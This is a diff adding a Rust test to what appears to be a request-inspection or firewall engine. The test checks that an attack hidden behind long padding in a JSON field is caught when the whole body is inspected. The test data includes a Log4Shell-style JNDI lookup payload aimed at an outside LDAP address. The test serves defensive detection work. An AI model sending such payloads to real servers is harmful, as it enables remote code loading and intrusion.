@@ -76,6 +76,30 @@ fn padding_alone_is_seen_in_whole_and_passes() {
     assert_eq!(whole.uninspected, Uninspected::default());
 }
 
+/// Each detector reads so far into one text only.
+#[test]
+fn an_attack_behind_a_long_beginning_of_one_value_is_found() {
+    let (engine, state) = (
+        Engine::new(Config::default()).unwrap(),
+        LocalState::default(),
+    );
+    for padding in [format!("/*{}*/", "x".repeat(17_000)), "4711;".repeat(5_000)] {
+        for attack in [ATTACK, "${jndi:ldap://192.0.2.1/a}"] {
+            let body = json!({"q": format!("{padding}{attack}")}).to_string();
+            let request = posted(body.as_bytes());
+            let first = engine.inspect(&request, &state, 1_000_000);
+            let shown = &body[..40];
+            assert!(first.rules.is_empty() && first.rest > 0, "{attack} {shown}");
+            let whole = engine.inspect_whole(&request, &state, 1_000_000);
+            assert!(!whole.rules.is_empty(), "{attack} {shown}");
+
+            let body = json!({"q": padding}).to_string();
+            let whole = engine.inspect_whole(&posted(body.as_bytes()), &state, 1_000_000);
+            assert!(whole.rules.is_empty(), "{:?}", whole.rules);
+        }
+    }
+}
+
 /// Wherever the budget ends, no value falls between two looks.
 #[test]
 fn each_value_has_its_look() {
